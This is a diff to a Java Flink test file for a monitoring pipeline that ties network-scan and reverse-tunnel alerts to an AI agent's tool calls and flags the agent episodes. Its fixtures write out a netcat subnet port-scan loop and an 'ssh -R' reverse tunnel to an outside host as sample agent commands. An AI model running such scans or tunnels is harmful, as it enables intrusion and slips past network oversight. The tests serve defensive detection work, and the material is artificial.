@@ -4,7 +4,9 @@ import static io.vigil.pipeline.detect.IncidentsTest.JOB;
 import static io.vigil.pipeline.detect.IncidentsTest.at;
 import static io.vigil.pipeline.detect.IncidentsTest.window;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.tuple;
 
+import io.vigil.models.agents.EpisodeAttribution;
 import io.vigil.records.AgentEpisode;
 import io.vigil.records.AgentEvent;
 import io.vigil.records.Alert;
@@ -21,6 +23,8 @@ import io.vigil.records.TransitionCause;
 import java.time.Instant;
 import java.util.List;
 import org.apache.flink.api.common.typeinfo.Types;
+import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
+import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
 import org.apache.flink.streaming.api.watermark.Watermark;
 import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
 import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
@@ -364,5 +368,155 @@ class AgentContextHarnessTest {
                 .satisfies(a -> assertThat(a.getAgentContext())
                         .extracting(AgentEpisode::getEpisodeId)
                         .containsExactly("ep-nc"));
+    }
+
+    static final String LOOP = "for h in $(seq 1 254); do for p in 22 6379; do nc -z -w1 10.244.2.$h $p; done; done";
+
+    static Alert scanWindow(int minute, String ip, int port) {
+        return Alert.newBuilder(window(minute, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
+                .setEvidence(
+                        new Evidence(List.of(new Destination(ip, port, "tcp", false, 0L, 1L, 1L)), List.of(), 1L, 0L))
+                .build();
+    }
+
+    /** A transition of the incident {@code open} began, on the window of {@code minute}. */
+    static Alert transition(Alert open, Alert window, String id, IncidentState state, TransitionCause cause) {
+        return Alert.newBuilder(window)
+                .setIncidentId(open.getIncidentId())
+                .setAlertId(id)
+                .setIncidentState(state)
+                .setTransitionCauses(List.of(cause))
+                .setIncidentCategories(open.getIncidentCategories())
+                .setJoinedCategories(List.of())
+                .build();
+    }
+
+    /** The episode flags this instance of the stage emitted (none: the harness has no queue for them). */
+    List<EpisodeFlag> flags() {
+        var flags = harness.getSideOutput(AgentContext.EPISODE_FLAGS);
+        return flags == null
+                ? List.of()
+                : flags.stream().map(StreamRecord::getValue).toList();
+    }
+
+    /** The job fails over: a new instance of the stage restores from a snapshot of this one. */
+    void failOver() throws Exception {
+        OperatorSubtaskState snapshot = harness.snapshot(1, 1);
+        harness.close();
+        harness = new KeyedOneInputStreamOperatorTestHarness<>(
+                new KeyedProcessOperator<>(new AgentContext()), AgentContextInput::jobId, Types.STRING);
+        harness.initializeState(snapshot);
+        harness.open();
+    }
+
+    /**
+     * ROME, live: the OPEN is told 30 s after its window with only a benign call near the first packet (the scan's
+     * loop is reported minutes later, when it ends); the tunnel that joins six minutes after the loop began has
+     * anchors of its own, too far from the loop's start. The loop is still tied to the OPEN's first packet, which it
+     * started just after, and named by the join with why, after the tunnel's call, and flagged once, across a
+     * fail-over between its report and the join; a later CLOSE flags nothing again and leaves no state behind.
+     */
+    @Test
+    void aScanReportedAfterTheOpenWasToldIsNamedByALaterTransitionAndFlaggedOnce() throws Exception {
+        sample("python", at(0));
+        seen("198.51.100.10", 443, at(0));
+        send(call("ep-benign", at(2) + 39_000, at(2) + 40_000, "pytest -q tests/test_lru.py"));
+        seen("10.244.2.1", 22, at(2) + 40_000);
+        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
+        alert(open);
+        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));
+        assertThat(harness.extractOutputValues())
+                .singleElement()
+                .satisfies(a -> assertThat(a.getAgentContext())
+                        .extracting(AgentEpisode::getEpisodeId)
+                        .containsExactly("ep-benign"));
+        assertThat(flags()).as("a call near in time only is not flagged").isEmpty();
+
+        // the loop began 0.8 s after the first probe was seen (clocks differ) and is reported when it ends
+        harness.processWatermark(new Watermark(at(6)));
+        send(call("ep-scan", at(2) + 40_800, at(6) + 12_000, LOOP));
+        failOver();
+
+        send(call("ep-tunnel", at(8) + 1_000, at(8) + 1_300, "ssh -f -N -R 9000:localhost:22 ubuntu@203.0.113.145"));
+        seen("203.0.113.145", 22, at(8) + 1_500);
+        Alert joined = Alert.newBuilder(window(8, 0.9, Severity.HIGH, Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setEvidence(new Evidence(
+                        List.of(new Destination("203.0.113.145", 22, "tcp", true, 9_000L, 2L, 0L)), List.of(), 2L, 0L))
+                .setIncidentId(open.getIncidentId())
+                .setAlertId("joined")
+                .setIncidentState(IncidentState.UPDATE)
+                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
+                .setIncidentCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setJoinedCategories(List.of(Category.REVERSE_TUNNEL))
+                .build();
+        alert(joined);
+        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS));
+        alert(transition(joined, joined, "close", IncidentState.CLOSE, TransitionCause.QUIET));
+        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS + 1));
+
+        List<Alert> out = harness.extractOutputValues();
+        assertThat(out).hasSize(2);
+        assertThat(out.get(0).getAgentContext())
+                .extracting(AgentEpisode::getEpisodeId)
+                .startsWith("ep-tunnel", "ep-scan");
+        AgentEpisode scan = out.get(0).getAgentContext().get(1);
+        assertThat(EpisodeAttribution.namedLate(scan)).isTrue();
+        assertThat(scan.getCalls().get(0).getReason())
+                .isEqualTo("tool call started 0.8 s after the first packet to 10.244.2.1:22; command contains a raw"
+                        + " socket tool; reported when it ended, after the transition of that anchor was told");
+        assertThat(flags())
+                .extracting(EpisodeFlag::getEpisodeId, EpisodeFlag::getAlertId, EpisodeFlag::getFlagId)
+                .containsExactly(
+                        tuple("ep-tunnel", "joined", Alerts.flagId(open.getIncidentId(), "ep-tunnel")),
+                        tuple("ep-scan", "joined", Alerts.flagId(open.getIncidentId(), "ep-scan")));
+
+        harness.processWatermark(new Watermark(at(9) + AgentContext.HORIZON_MS + 60_000));
+        assertThat(harness.numKeyedStateEntries()).isZero();
+    }
+
+    /** An incident that closes before any other transition: its CLOSE names the call reported late, and flags it. */
+    @Test
+    void aCloseNamesACallReportedAfterTheOpenWasTold() throws Exception {
+        sample("python", at(0));
+        seen("198.51.100.10", 443, at(0));
+        seen("10.244.2.1", 22, at(2) + 40_000);
+        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
+        alert(open);
+        assertThat(harness.extractOutputValues())
+                .as("no call yet: told at once")
+                .singleElement()
+                .satisfies(a -> assertThat(a.getAgentContext()).isEmpty());
+
+        harness.processWatermark(new Watermark(at(6)));
+        send(call("ep-scan", at(2) + 39_000, at(6) + 12_000, LOOP));
+        send(call("ep-other", at(3), at(6) + 13_000, "nc -z 10.0.0.9 80")); // began after the packet: not its cause
+        // the last window's own first packet is more than 5 minutes after the loop began
+        seen("10.244.2.200", 6379, at(8) + 30_000);
+        alert(transition(
+                open, scanWindow(8, "10.244.2.200", 6379), "close", IncidentState.CLOSE, TransitionCause.QUIET));
+        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS));
+
+        assertThat(harness.extractOutputValues().get(1).getAgentContext())
+                .extracting(AgentEpisode::getEpisodeId)
+                .containsExactly("ep-scan");
+        assertThat(flags())
+                .singleElement()
+                .satisfies(f -> assertThat(f.getAlertId()).isEqualTo("close"))
+                .satisfies(f -> assertThat(f.getEpisodeId()).isEqualTo("ep-scan"));
+    }
+
+    /** A call reported after the incident closed has nothing left to be tied to: no state is kept for it. */
+    @Test
+    void aCallReportedAfterItsIncidentClosedIsNotKept() throws Exception {
+        sample("python", at(0));
+        seen("10.244.2.1", 22, at(2) + 40_000);
+        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
+        alert(open);
+        alert(transition(open, scanWindow(3, "10.244.2.1", 22), "close", IncidentState.CLOSE, TransitionCause.QUIET));
+        send(call("ep-scan", at(2) + 39_000, at(6) + 12_000, LOOP));
+        harness.processWatermark(new Watermark(at(7) + AgentContext.HORIZON_MS + 60_000));
+
+        assertThat(flags()).isEmpty();
+        assertThat(harness.numKeyedStateEntries()).isZero();
     }
 }
